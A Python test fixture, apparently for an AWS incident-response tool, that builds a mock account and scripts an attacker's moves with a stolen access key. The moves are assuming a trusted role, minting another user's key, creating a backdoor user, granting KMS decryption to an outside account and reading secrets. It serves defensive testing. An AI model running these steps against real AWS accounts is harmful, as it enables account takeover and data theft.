"""The attacker's world for following its pivots (responder.pivots): a victim whose key is stolen, what the attacker
reaches with it (another user, a role trusting the victim, a KMS key, a secret, a parameter), and the attacker's
plan made with the stolen key in the in-memory AWS, so CloudTrail holds the events AWS would record. Used by
tests/workflow/test_pivots.py and bench/pivots.py."""
from __future__ import annotations

import json
import uuid

import boto3

from tests.worlds.workflow import access_key_event

MEMBER, REGION = "444455556666", "eu-west-1"


def uid(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


def as_key(key: dict, service: str, region: str = REGION):
    return boto3.client(service, region_name=region, aws_access_key_id=key["AccessKeyId"],
                        aws_secret_access_key=key["SecretAccessKey"])


def trust(principal: str) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": principal}, "Action": "sts:AssumeRole"}]})


def world(dep):
    """The victim (a stolen key), another user, a role the victim may assume, a KMS key, a secret, a parameter."""
    iam = dep.client("iam")
    victim, other, backdoor = uid("svc-build"), uid("deployer"), uid("backdoor")
    iam.create_user(UserName=victim)
    iam.create_user(UserName=other)
    stolen = iam.create_access_key(UserName=victim)["AccessKey"]
    victim_arn = iam.get_user(UserName=victim)["User"]["Arn"]
    app = iam.create_role(RoleName=uid("app"), AssumeRolePolicyDocument=trust(victim_arn))["Role"]
    key = dep.client("kms").create_key(Description="app data")["KeyMetadata"]
    secret = dep.client("secretsmanager").create_secret(Name=uid("db"), SecretString="hunter2")["ARN"]
    parameter = "/" + uid("app") + "/password"
    dep.client("ssm").put_parameter(Name=parameter, Value="hunter2", Type="SecureString")
    return {"victim": victim, "other": other, "backdoor": backdoor, "stolen": stolen, "app": app, "key": key,
            "secret": secret, "parameter": parameter}


def attack(w):
    """The attacker's plan, made with the stolen key."""
    stolen = w["stolen"]
    session = as_key(stolen, "sts").assume_role(RoleArn=w["app"]["Arn"], RoleSessionName="loot")["Credentials"]
    minted = as_key(stolen, "iam").create_access_key(UserName=w["other"])["AccessKey"]
    as_key(stolen, "iam").create_user(UserName=w["backdoor"])
    grant = as_key(stolen, "kms").create_grant(KeyId=w["key"]["KeyId"], Operations=["Decrypt"],
                                               GranteePrincipal="arn:aws:iam::111122223333:root")["GrantId"]
    as_key(stolen, "secretsmanager").get_secret_value(SecretId=w["secret"])
    as_key(stolen, "ssm").get_parameter(Name=w["parameter"], WithDecryption=True)
    return {"session": session, "minted": minted, "grant": grant}


def finding(w, account: str = MEMBER, region: str = REGION):
    return access_key_event(account=account, region=region, user_type="IAMUser", name=w["victim"],
                            key=w["stolen"]["AccessKeyId"])
